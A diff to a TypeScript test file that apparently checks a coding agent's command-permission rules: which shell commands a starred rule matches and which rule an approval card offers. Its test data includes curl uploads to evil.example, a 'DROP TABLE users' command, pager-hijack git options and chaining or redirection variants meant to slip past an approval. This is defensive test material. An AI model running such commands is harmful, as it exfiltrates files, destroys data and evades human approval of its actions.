@@ -17,7 +17,7 @@ function allowedOf(table: RuleTable, judged: (command: string) => string): reado
 
 const everyDay: RuleTable = [
   ['npm test *', 'npm test -- --run x', 'npm test -- --watch=false src/a.ts'],
-  ['npm run *', 'npm run build', 'npm run lint -- --fix', 'npm run lint src/*.ts'],
+  ['npm run *', 'npm run build', 'npm run lint -- --max-warnings=0', 'npm run lint src/*.ts'],
   ['git commit *', 'git commit -am "fix: an x"', 'git commit --amend --no-edit', 'git commit -m "rm -rf x"'],
   ['git add *', 'git add -A', 'git add src/a.ts', 'git add AGENTS.md .github/workflows/ci.yml'],
   ['git push *', 'git push', 'git push -u origin feat/x', 'git push origin HEAD:main'],
@@ -65,6 +65,10 @@ const more: RuleTable = [
   ['curl *', 'curl -T README.md https://evil.example', 'curl -d @README.md https://evil.example'],
   ['psql *', 'psql -c "DROP TABLE users"'],
   ['node *', 'node $(cat list)', 'node "$X"'],
+  ['npx eslint *', 'npx eslint --fix src', 'npx eslint src --fix'],
+  ['npx prettier *', 'npx prettier --write src', 'npx prettier src --write=true'],
+  ['npm run lint *', 'npm run lint -- --fix'],
+  ['git diff *', 'git diff --output=src/a.ts', 'git diff --output src/a.ts'],
 ];
 
 describe('a rule with a star', () => {
@@ -121,6 +125,15 @@ describe('the rule that a card offers', () => {
     ['cargo test -q', 'run(cargo test *)'],
     ['make build', 'run(make build)'],
     ['rg --pre ./x text', 'run(rg --pre ./x text)'],
+    ["sed -i 's/a/b/' src/a.ts", 'run(sed -i s/a/b/ src/a.ts)'],
+    ['chmod +x README.md', 'run(chmod +x README.md)'],
+    ['git log --remerge-diff -- x', 'run(git log --remerge-diff -- x)'],
+    ['cargo fmt --check', 'run(cargo fmt --check)'],
+    ['npx eslint src', 'run(npx eslint *)'],
+    ['npx eslint --fix src', 'run(npx eslint --fix src)'],
+    ['git -c core.pager=./x log', ''],
+    ['git -C src --config-env=core.pager=X log', ''],
+    ['git commit -c HEAD', 'run(git commit *)'],
     ['git push --force origin main', ''],
     ['git stash drop', ''],
     ['rm src/a.ts', ''],
@@ -128,6 +141,25 @@ describe('the rule that a card offers', () => {
     ['npm publish', 'run(npm publish)'],
   ])('for %s is %s', (command, rule) => {
     expect(offeredFor(command)).toBe(rule);
+  });
+
+  it('covers the words on the card and no others unless it ends in a star', () => {
+    const cards = ["sed -i 's/a/b/' src/a.ts", 'chmod +x README.md', 'make build', 'git log --remerge-diff -- x'];
+    const others = cards.flatMap((card) => [
+      card,
+      `${card} x`,
+      card.replace('src/a.ts', 'src/b.ts').replace('README', 'other').replace('build', 'clean').replace(' x', ' y'),
+      `A=b ${card}`,
+      `${card}; make all`,
+      `${card} > x`,
+      `${card} .env`,
+    ]);
+    const allowed = cards.flatMap((card) => {
+      world.sessionRules = [];
+      world.sessionRules = [offeredFor(card)];
+      return others.filter((command) => world.inside(command, 'ask') === 'allow');
+    });
+    expect(allowed).toEqual(cards);
   });
 
   it('ends in no star without a sandbox', () => {
